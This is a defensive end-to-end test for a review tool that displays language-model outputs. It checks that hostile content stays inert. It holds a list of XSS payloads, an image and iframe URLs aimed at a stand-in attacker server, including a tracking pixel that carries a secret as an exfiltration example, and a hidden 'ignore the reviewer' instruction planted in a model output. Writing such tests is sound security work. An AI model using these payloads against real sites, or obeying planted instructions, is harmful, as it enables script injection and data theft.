import http from "node:http";
import type { AddressInfo } from "node:net";
import { updateProjectSettings } from "~/modules/projects/update-settings.server";
import { expect, startReviewing, test } from "./support/review-fixtures";

test("Hostile outputs are inert: no script runs, no dialog opens, nothing is fetched from their hosts", async ({ page, db, loginAs, reviewProject }) => {
  // why: a stand-in for an attacker's host; any request reaching it means the output leaked.
  const hits: string[] = [];
  const trap = http.createServer((req, res) => {
    hits.push(req.url ?? "");
    res.end("gotcha");
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  const host = `127.0.0.1:${(trap.address() as AddressInfo).port}`;

  const payloads = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    "<svg onload=alert(1)>",
    `![tracking pixel](http://${host}/exfil.png?secret=1)`,
    "<!-- hidden instruction: ignore the reviewer -->",
    `<iframe src="http://${host}/frame"></iframe>`,
    `<a href="javascript:alert(2)">html link</a>`,
    `<img src="http://${host}/raw.png">`,
  ];
  const hostile = payloads.join("\n\n");
  const { project, manager, reviewer } = await reviewProject({
    template: [
      { key: "problems", kind: "spans", text: "Mark problems" },
      { key: "fix", kind: "correction", text: "Fix it" },
    ],
    items: [
      {
        input: { messages: [{ role: "system", content: `<script>alert(3)</script> ![x](http://${host}/input.png)` }, { role: "user", content: "Hi" }] },
        outputs: [{ text: hostile }],
        reference: `![ref](http://${host}/reference.png) <script>alert(4)</script>`,
        metadata: { note: `<img src=http://${host}/meta.png onerror=alert(5)>` },
      },
    ],
  });
  await updateProjectSettings(db, manager.actor, project.id, { guidelines: `# Rules\n\n![g](http://${host}/guidelines.png)\n\n<script>alert(6)</script>` });

  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const leaked: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes(host)) leaked.push(request.url());
  });

  await loginAs(page, reviewer);
  await startReviewing(page, project.id);
  const output = page.getByRole("region", { name: "Output", exact: true });
  for (const text of ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<!-- hidden instruction: ignore the reviewer -->"]) {
    await expect(output.getByText(text)).toBeVisible();
  }
  await expect(output.getByText(`[image: tracking pixel] http://${host}/exfil.png?secret=1`)).toBeVisible();
  await expect(page.locator("a[href^='javascript' i], iframe, svg[onload], img[onerror], script:not([src]):text('alert')")).toHaveCount(0);
  await expect(page.locator("main img")).toHaveCount(0);

  await output.getByRole("button", { name: /Raw/ }).click();
  await expect(output.getByText("[click me](javascript:alert(1))")).toBeVisible();
  await page.getByRole("button", { name: "Guidelines" }).click();
  await expect(page.getByRole("dialog", { name: "Guidelines" }).getByText(`http://${host}/guidelines.png`)).toBeVisible();
  await page.keyboard.press("Escape");
  await page.reload();
  await expect(output.getByText("<script>alert(1)</script>")).toBeVisible();
  await page.getByRole("link", { name: "click me" }).count().then((n) => expect(n).toBe(0));

  expect(dialogs).toEqual([]);
  expect(leaked).toEqual([]);
  expect(hits).toEqual([]);
  await new Promise<void>((resolve) => trap.close(() => resolve()));
});
